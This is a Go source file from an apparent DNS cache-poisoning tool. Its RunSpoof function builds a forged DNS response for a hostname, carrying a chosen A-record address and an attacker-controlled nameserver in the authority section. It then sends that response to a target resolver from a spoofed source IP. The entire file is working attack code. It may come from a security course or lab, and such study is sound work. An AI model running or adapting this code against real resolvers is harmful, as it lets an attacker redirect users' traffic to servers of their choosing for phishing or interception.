package attack

import (
	"fmt"
	"net"

	"github.com/dnskaminsky/poisoner/internal/dnscodec"
	"github.com/dnskaminsky/poisoner/internal/query"
	"github.com/dnskaminsky/poisoner/internal/response"
	"github.com/dnskaminsky/poisoner/internal/spoof"
)

// SpoofConfig are the inputs to RunSpoof, the one-shot variant of the
// attack driver (spec §2's "Spoof driver" component): a single forged
// response for a single hostname, no ID enumeration.
type SpoofConfig struct {
	Hostname        string
	TargetAddr      net.IP
	SpoofedSrcIP    net.IP
	AttackerNS      string
	SpoofedResponse net.IP
	DstPort         uint16
}

// RunSpoof builds a query for Hostname, then a single forged response
// carrying SpoofedResponse as the A answer and AttackerNS as the
// authority NS for the domain derived from Hostname (dropping its first
// label), and sends it once via a fresh Spoofer.
func RunSpoof(cfg SpoofConfig) error {
	targetDomain, err := dropFirstLabel(cfg.Hostname)
	if err != nil {
		return err
	}

	q, err := query.BuildOne(cfg.Hostname)
	if err != nil {
		return fmt.Errorf("spoof: build query for %s: %w", cfg.Hostname, err)
	}

	hostName, err := dnscodec.FromString(cfg.Hostname)
	if err != nil {
		return err
	}
	domainName, err := dnscodec.FromString(targetDomain)
	if err != nil {
		return err
	}
	nsName, err := dnscodec.FromString(cfg.AttackerNS)
	if err != nil {
		return err
	}

	var ip4 [4]byte
	v4 := cfg.SpoofedResponse.To4()
	if v4 == nil {
		return fmt.Errorf("spoof: --spoofed-response must be an IPv4 address")
	}
	copy(ip4[:], v4)

	r := response.New(q)
	r.AddAnswer(response.A{Name: hostName, TTL: 0, IP: ip4})
	// TTL=0 here, unlike the attack driver's authorityTTL: a one-shot
	// spoofed response should not get cached under the bad NS record, so
	// a failed attempt doesn't poison the resolver against future tries.
	r.AddAuthority(response.NS{Name: domainName, TTL: 0, NS: nsName})

	msg, err := r.ToMessage()
	if err != nil {
		return fmt.Errorf("spoof: build forged response: %w", err)
	}
	payload, err := msg.Emit()
	if err != nil {
		return fmt.Errorf("spoof: emit forged response: %w", err)
	}

	s, err := spoof.New(spoof.Config{
		SpoofedSrcIP: cfg.SpoofedSrcIP,
		DstIP:        cfg.TargetAddr,
		MaxPayload:   len(payload),
		DstPort:      cfg.DstPort,
	})
	if err != nil {
		return err
	}
	defer s.Close()

	return s.Send(payload)
}
